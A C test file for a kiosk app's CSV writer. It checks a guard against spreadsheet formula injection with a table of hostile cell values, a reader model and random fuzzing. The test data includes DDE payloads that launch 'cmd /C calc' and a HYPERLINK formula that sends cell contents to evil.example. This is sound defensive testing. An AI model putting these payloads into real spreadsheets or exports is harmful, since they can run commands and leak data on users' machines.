/* csv_format_row's formula guard against a corpus of hostile values, as a
 * table of exact rows; a model of every reader (split on , ; TAB or | with
 * or without honouring the quotes) run over random values; and, for
 * tests/spreadsheet.test.sh, the corpus written as the kiosk writes it:
 *
 *   test_csv                      the unit tests
 *   test_csv corpus DIR           writes DIR/kiosk.csv (each hostile value
 *                                 typed into the bundled deck's form and
 *                                 saved through app_signup_row and the
 *                                 store) and DIR/raw.csv (the values as they
 *                                 are, straight through csv_format_row)
 *   test_csv same-cells A B       exit 0 when CSV files A and B have the same
 *                                 cells (B as a spreadsheet exports it)
 */
#include "app.h"
#include "csv.h"
#include "deckload.h"
#include "diag.h"
#include "store.h"

#include "check.h"
#include "files.h"

#include <stdbool.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define N(a) ((int)(sizeof(a) / sizeof((a)[0])))

/* ---- The corpus ---------------------------------------------------------
 * Each hostile value with the exact row csv_format_row writes for it alone
 * (so also the exact cell an RFC 4180 reader gets, with the guard's '). */

typedef struct {
    const char *value, *row;
} GuardCase;

static const GuardCase guard_cases[] = {
    /* A formula character first. */
    {"=1+1", "'=1+1\r\n"},
    {"+1+1", "'+1+1\r\n"},
    {"-2+3", "'-2+3\r\n"},
    {"@SUM(1+1)", "'@SUM(1+1)\r\n"},
    {"\t=1+1", "\"'\t'=1+1\"\r\n"},
    {"\r=1+1", "\"'\r'=1+1\"\r\n"},
    {"\tx", "\"'\tx\"\r\n"},
    {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
     "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"\r\n"},
    {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0\r\n"},
    {"=DDE(\"cmd\";\"/C calc\";\"A0\")", "\"'=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"A0\"\")\"\r\n"},
    {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0\r\n"},
    {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0\r\n"},
    /* A real phone number: text, readable, with the guard's '. */
    {"+44 20 7946 0958", "'+44 20 7946 0958\r\n"},
    /* After a separator in the middle: one ' per cell a reader may start. */
    {"Ann;+1+1;", "\"Ann;'+1+1;\"\r\n"},
    {"Ann,+1+1,", "\"Ann,'+1+1,\"\r\n"},
    {"Ann|+1+1|", "Ann|'+1+1|\r\n"},
    {"Ann;=1+1", "\"Ann;'=1+1\"\r\n"},
    {"Ann;-2+3", "\"Ann;'-2+3\"\r\n"},
    {"Ann;@SUM(1+1)", "\"Ann;'@SUM(1+1)\"\r\n"},
    {"Ann; =1+1", "\"Ann;' =1+1\"\r\n"},
    {"Ann\t=1+1", "\"Ann\t'=1+1\"\r\n"},
    {"Ann;\t=1+1", "\"Ann;'\t'=1+1\"\r\n"},
    {"Ann\r\n=1+1", "\"Ann\r\n'=1+1\"\r\n"},
    {"Ann\n+1", "\"Ann\n'+1\"\r\n"},
    {"Ann\r-1", "\"Ann\r'-1\"\r\n"},
    {"x;=cmd|' /C calc'!A0;", "\"x;'=cmd|' /C calc'!A0;\"\r\n"},
    {"a;b|c,d", "\"a;b|c,d\"\r\n"},
    {"Ann;;=1", "\"Ann;;'=1\"\r\n"},
    /* Quotes that shift a ';' reader's idea of the quoting (LibreOffice
     * made "=1+1" a formula out of the first one before the guard). */
    {"x\";=1+1;\"", "\"x\"\";'=1+1;\"\"\"\r\n"},
    {"\";=1+1", "\"\"\";'=1+1\"\r\n"},
    {"\"=1+1\"", "\"'\"\"=1+1\"\"\"\r\n"},
    {"\"\"=1+1", "\"'\"\"\"\"=1+1\"\r\n"},
    /* Full-width, small and other forms NFKC folds to a formula character. */
    {"＝1+1", "'＝1+1\r\n"},
    {"＋1+1", "'＋1+1\r\n"},
    {"－2+3", "'－2+3\r\n"},
    {"＠SUM(1+1)", "'＠SUM(1+1)\r\n"},
    {"﹦1+1", "'﹦1+1\r\n"},
    {"⁼1+1", "'⁼1+1\r\n"},
    {"−2+3", "'−2+3\r\n"},
    {"Ann;＝1+1", "\"Ann;'＝1+1\"\r\n"},
    /* Invisible or space-like characters in front. */
    {"\u202E=1+1", "'\u202E=1+1\r\n"},
    {"\u200B=1+1", "'\u200B=1+1\r\n"},
    {"\uFEFF=1+1", "'\uFEFF=1+1\r\n"},
    {"\u2066=1+1\u2069", "'\u2066=1+1\u2069\r\n"},
    {"\u00AD+1", "'\u00AD+1\r\n"},
    {"\u00A0=1+1", "'\u00A0=1+1\r\n"},
    {"\u3000=1+1", "'\u3000=1+1\r\n"},
    {"Ann;\u200B=1+1", "\"Ann;'\u200B=1+1\"\r\n"},
    {" =1+1", "\"' =1+1\"\r\n"},
    {"  -1", "\"'  -1\"\r\n"},
    /* Left alone. */
    {"José María", "José María\r\n"},
    {"Zoë", "Zoë\r\n"},
    {"李小龍", "李小龍\r\n"},
    {"Jean-Luc O'Brien", "Jean-Luc O'Brien\r\n"},
    {"Smith - Jones", "Smith - Jones\r\n"},
    {"Smith, John", "\"Smith, John\"\r\n"},
    {"a=b", "a=b\r\n"},
    {"'kept", "'kept\r\n"},
    {"\"", "\"\"\"\"\r\n"},
    {"zoe+tag@example.com", "zoe+tag@example.com\r\n"},
    {"\u200B", "\u200B\r\n"},
    {"", "\r\n"},
};

static void test_guard_table(void)
{
    for (int i = 0; i < N(guard_cases); i++) {
        const GuardCase *c = &guard_cases[i];
        const char *v[] = {c->value};
        char buf[256];
        size_t need = csv_format_row(buf, sizeof buf, v, 1);
        if (strcmp(buf, c->row) != 0) {
            fprintf(stderr, "guard case %d: got [%s], expected [%s]\n", i, buf, c->row);
            check_failures++;
        }
        CHECK_INT(need, strlen(c->row));
        /* Whatever the guard added, the row still parses as one field. */
        char *f[2] = {0};
        size_t used = 0;
        CHECK_INT(csv_parse_row(buf, need, &used, f, 2), 1);
        CHECK_INT(used, need);
        free(f[0]);
    }
    /* Between fields: the guard looks at every value, not just the first. */
    const char *v[] = {"1", "Ann;+1+1", "=2", "+44 20 7946 0958"};
    char buf[128];
    csv_format_row(buf, sizeof buf, v, 4);
    CHECK_STR(buf, "1,\"Ann;'+1+1\",'=2,'+44 20 7946 0958\r\n");
}

/* ---- Every reader ---------------------------------------------------------
 * A model of a reader that splits on @p sep and may have lost track of the
 * quotes: a cell can start at the line's start and after any sep, CR or
 * LF. Such a cell is safe when it starts with ' or, after what a reader may
 * skip (blanks, quotes, the invisible characters below), with no formula
 * character. Written separately from csv.c on purpose, with its own tables. */

static const char *const model_skippable[] = {" ",      "\t",     "\"",     "\u00A0",
                                              "\u00AD", "\u200B", "\u200D", "\u200E",
                                              "\u202E", "\u2066", "\u3000", "\uFEFF"};
static const char *const model_formula[] = {"=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "−"};

static size_t starts_with_any(const char *s, const char *const *set, int n)
{
    for (int k = 0; k < n; k++)
        if (strncmp(s, set[k], strlen(set[k])) == 0)
            return strlen(set[k]);
    return 0;
}

static bool model_cell_is_formula(const char *s)
{
    if (*s == '\'')
        return false;
    size_t skip;
    while ((skip = starts_with_any(s, model_skippable, N(model_skippable))) > 0)
        s += skip;
    return starts_with_any(s, model_formula, N(model_formula)) > 0;
}

static int model_formulas(const char *row, char sep)
{
    int found = model_cell_is_formula(row);
    for (const char *p = row; *p; p++)
        if (*p == sep || *p == '\r' || *p == '\n')
            found += model_cell_is_formula(p + 1);
    return found;
}

static void test_every_reader(void)
{
    /* Pieces a hostile value is made of. */
    static const char *const pieces[] = {"=",      "+",
                                         "-",      "@",
                                         ";",      ",",
                                         "|",      "\t",
                                         "\r",     "\n",
                                         "\r\n",   " ",
                                         "\"",     "\"\"",
                                         "'",      "1",
                                         "A",      "é",
                                         "＝",     "＋",
                                         "\u202E", "\u200B",
                                         "\uFEFF", "\u00A0",
                                         "\u3000", "cmd|' /C calc'!A0"};
    unsigned seed = 11;
    int bad = 0;
    for (int i = 0; i < 50000; i++) {
        char v[3][64] = {{0}};
        for (int f = 0; f < 3; f++) {
            int len = rand_r(&seed) % 6;
            for (int k = 0; k < len; k++)
                strcat(v[f], pieces[rand_r(&seed) % N(pieces)]);
        }
        const char *vals[] = {v[0], v[1], v[2]};
        char row[512];
        size_t need = csv_format_row(row, sizeof row, vals, 3);
        CHECK(need < sizeof row);
        for (const char *sep = ",;\t|"; *sep; sep++) {
            if (model_formulas(row, *sep) > 0 && bad++ < 5) {
                fprintf(stderr, "a reader splitting on 0x%02x finds a formula in [%s]\n", *sep,
                        row);
            }
        }
        /* An RFC 4180 reader gets three fields back. */
        char *f[3] = {0};
        CHECK_INT(csv_parse_row(row, need, NULL, f, 3), 3);
        for (int k = 0; k < 3; k++)
            free(f[k]);
    }
    CHECK_INT(bad, 0);
}

/* ---- The corpus as the kiosk writes it ---------------------------------- */

/* The corpus for the spreadsheet: every guard case that a form can hold
 * (the raw file gets them all). */
static int write_raw(const char *path)
{
    FILE *out = fopen(path, "wb");
    if (!out)
        return 1;
    for (int i = 0; i < N(guard_cases); i++) {
        char label[16];
        snprintf(label, sizeof label, "raw-%02d", i);
        /* The last column is never empty, so every row has 3 cells. */
        const char *v[] = {label, guard_cases[i].value, "end"};
        char row[512];
        csv_format_row(row, sizeof row, v, 3);
        fputs(row, out);
    }
    return fclose(out) != 0;
}

/* Types each value into the name, phone and email fields of the bundled
 * deck's form (form_insert_text, the filter every key and SDL_TEXTINPUT
 * goes through), makes the row with app_signup_row and appends it with the
 * store: the bytes the kiosk would write. */
static int write_kiosk(const char *path)
{
    DiagList diags = DIAG_LIST_INIT;
    DeckLoadOptions opts = {.data_dir = TEST_SOURCE_DIR};
    Deck *d = deck_load(TEST_SOURCE_DIR "/slides/microneedling.yaml", &opts, &diags);
    diag_print(&diags, stderr);
    diag_clear(&diags);
    if (!d)
        return 1;
    App app;
    app_init(&app, d, 1280, 800, 0);
    const char *cols[APP_ROW_MAX];
    size_t ncols = app_signup_columns(d, cols);
    Store *s = NULL;
    char note[512], err[512];
    int rc = store_open(&s, path, cols, ncols, note, sizeof note, err, sizeof err);
    for (int i = 0; rc == 0 && i < N(guard_cases); i++) {
        form_clear(&app.form);
        for (int field = 0; field < app.form.count; field++) {
            if (app.form.spec[field].kind == FORM_CHOICE) {
                form_choose(&app.form, field, 0);
                continue;
            }
            form_focus(&app.form, field);
            form_insert_text(&app.form, guard_cases[i].value);
        }
        char id[16];
        snprintf(id, sizeof id, "row-%02d", i);
        char stamp[40];
        store_format_time((time_t)1796612400, stamp, sizeof stamp); /* 2026-12-07 03:00 UTC */
        SignupRow row;
        app_signup_row(&app, id, stamp, "desk", &row);
        rc = store_append(s, row.value, row.count, err, sizeof err);
    }
    if (rc != 0)
        fprintf(stderr, "test_csv: %s\n", err);
    store_close(s);
    deck_free(d);
    return rc != 0;
}

/* Compares the cells of two CSV files, row by row; prints the first
 * difference of each row. */
static int same_cells(const char *a_path, const char *b_path)
{
    size_t alen = 0, blen = 0, ai = 0, bi = 0;
    char *a = files_slurp(a_path, &alen), *b = files_slurp(b_path, &blen);
    int diffs = 0, row = 1;
    if (!a || !b) {
        fprintf(stderr, "test_csv: cannot read %s or %s\n", a_path, b_path);
        diffs = 1;
    }
    while (!diffs && ai < alen && bi < blen) {
        char *fa[16] = {0}, *fb[16] = {0};
        size_t ua = 0, ub = 0;
        int na = csv_parse_row(a + ai, alen - ai, &ua, fa, 16);
        int nb = csv_parse_row(b + bi, blen - bi, &ub, fb, 16);
        if (na < 0 || nb < 0 || na != nb) {
            fprintf(stderr, "row %d: %d cells, %d in the spreadsheet's\n", row, na, nb);
            diffs++;
        }
        for (int k = 0; k < na && k < nb; k++) {
            if (strcmp(fa[k], fb[k]) != 0) {
                fprintf(stderr, "row %d cell %d: wrote [%s], spreadsheet shows [%s]\n", row, k + 1,
                        fa[k], fb[k]);
                diffs++;
            }
        }
        for (int k = 0; k < 16; k++) {
            free(fa[k]);
            free(fb[k]);
        }
        if (na < 0 || nb < 0)
            break;
        ai += ua;
        bi += ub;
        row++;
    }
    if (!diffs && (ai != alen || bi != blen)) {
        fprintf(stderr, "the files have different numbers of rows\n");
        diffs++;
    }
    free(a);
    free(b);
    return diffs != 0;
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "corpus") == 0) {
        char path[4096];
        snprintf(path, sizeof path, "%s/raw.csv", argv[2]);
        int rc = write_raw(path);
        snprintf(path, sizeof path, "%s/kiosk.csv", argv[2]);
        return rc | write_kiosk(path);
    }
    if (argc == 4 && strcmp(argv[1], "same-cells") == 0)
        return same_cells(argv[2], argv[3]);
    test_guard_table();
    test_every_reader();
    return check_report("test_csv");
}
